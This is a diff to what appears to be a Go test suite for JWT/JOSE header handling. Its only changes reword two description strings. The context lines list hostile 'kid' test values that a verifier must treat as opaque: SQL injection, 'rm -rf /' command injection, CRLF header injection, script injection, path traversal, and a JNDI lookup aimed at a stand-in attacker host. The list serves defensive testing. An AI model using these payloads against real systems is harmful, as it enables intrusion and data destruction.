@@ -6,7 +6,7 @@ import (
 )
 
 func headers() *suite {
-	s := newSuite("headers", "Header members: crit, b64, keys in the header, kid, typ's form, and what is to be ignored.")
+	s := newSuite("headers", "Header members: crit, b64, keys in the header, kid, typ's form, and members that must be ignored.")
 	const crit = "RFC 7515, Section 4.1.11: what is critical must be understood, and no extension is"
 
 	for _, text := range []string{`["b64"]`, `["exp"]`, `["http://example.com/UNDEFINED"]`, `[]`, `null`, `"exp"`, `true`, `["alg"]`, `["exp","exp"]`, `{}`, `[""]`, `[1]`} {
@@ -66,7 +66,7 @@ func headers() *suite {
 	for _, text := range []string{"null", "1", "true", `["rsa"]`, `{"kid":"rsa"}`, "[]"} {
 		s.refuse("token_malformed", "kid is "+text, kid, head("kid", text))
 	}
-	const opaqueKid = "RFC 8725, Section 3.10: a kid is compared, and nothing else is done with it"
+	const opaqueKid = "RFC 8725, Section 3.10: a kid is compared, and used for nothing more"
 	for _, k := range []string{
 		"RSA", "rsa ", " rsa", "rsa\x00", "rs", "rsaa", "rsa\n", "../../../../dev/null", "/dev/null", "' OR '1'='1", "rsa' UNION SELECT 'key", "rsa; rm -rf /",
 		"https://attacker.example/key", "rsa\r\nSet-Cookie: admin=1", "\"><script>alert(1)</script>", "{{.Key}}", "${jndi:ldap://attacker.example/a}", "%00", "r\u0455a", "\u202ersa", "0",
